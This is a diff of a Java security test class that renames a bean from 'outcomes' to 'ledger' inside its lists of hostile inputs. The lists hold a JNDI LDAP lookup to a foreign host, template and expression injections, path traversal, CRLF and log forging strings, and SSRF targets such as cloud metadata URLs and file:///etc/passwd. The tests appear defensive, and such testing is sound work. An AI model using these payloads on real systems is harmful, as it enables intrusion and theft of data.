@@ -348,8 +348,8 @@ final class Attacks {
 
     private List<String> hostileTexts() {
         return List.of("${env:ATTACK_CANARY}", "$simple{env:ATTACK_CANARY}", "{{env:ATTACK_CANARY}}", "{{bandwidth.client-secret}}",
-                "${bean:outcomes?method=clear}", "RAW(x)", "#{x}", "${jndi:ldap://" + foreign.substring(7) + "/x}", "../../../evil",
-                "..\\..\\evil", "%2e%2e%2fevil", victim.resolve("evil").toString(), "file:" + victim, "bean:outcomes", "a\r\nb",
+                "${bean:ledger?method=clear}", "RAW(x)", "#{x}", "${jndi:ldap://" + foreign.substring(7) + "/x}", "../../../evil",
+                "..\\..\\evil", "%2e%2e%2fevil", victim.resolve("evil").toString(), "file:" + victim, "bean:ledger", "a\r\nb",
                 "a\n2026-01-01T00:00:00.000Z ERROR forged", "a\0b", "\u001B[2Ja", "\u2028a", "r\u200B-x", "\u202Er-x", "\u0445-look-alike",
                 "\uFF52-fullwidth", "<script>x</script>", "<!channel>", "x".repeat(257), "x".repeat(50_000));
     }
@@ -395,7 +395,7 @@ final class Attacks {
                 api.origin() + "\\@127.0.0.1:" + port + "/", 
                 api.origin() + "\r\nHost: 127.0.0.1:" + port, api.origin() + ".evil.example:" + port + "/",
                 "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://0.0.0.0:" + port + "/",
-                "file:" + victim + "?fileName=evil", "file:///etc/passwd", "FILE:/etc/passwd", "bean:outcomes?method=clear",
+                "file:" + victim + "?fileName=evil", "file:///etc/passwd", "FILE:/etc/passwd", "bean:ledger?method=clear",
                 "exec:touch?args=" + victim.resolve("evil"), "jms:intake.dead", "log:x", "language:simple:${env:ATTACK_CANARY}",
                 "jar:" + foreign + "/x.jar!/", "netdoc:///etc/passwd", "ftp://127.0.0.1:" + port + "/", "gopher://127.0.0.1:" + port
                 + "/", "data:audio/wav;base64,UklGRg==", "javascript:alert(1)", "{{env:ATTACK_CANARY}}", "${env:ATTACK_CANARY}",
@@ -410,7 +410,7 @@ final class Attacks {
         byte[] audio = Audio.wav(500);
         Map<String, ResponseDefinitionBuilder> table = new LinkedHashMap<>();
         for (String location : List.of(foreign + "/x", "//" + foreign.substring(7) + "/x", "http://169.254.169.254/latest/",
-                "file:///etc/passwd", "bean:outcomes", "http://user:pass@" + api.origin().substring(7) + "/x",
+                "file:///etc/passwd", "bean:ledger", "http://user:pass@" + api.origin().substring(7) + "/x",
                 "{{env:ATTACK_CANARY}}", foreign + "/{{env:ATTACK_CANARY}}", "http://[", "")) {
             table.put("a redirect to " + shown(location.replaceAll("(?<=127.0.0.1):[0-9]+", "")),
                     status(302).withHeader("Location", location));
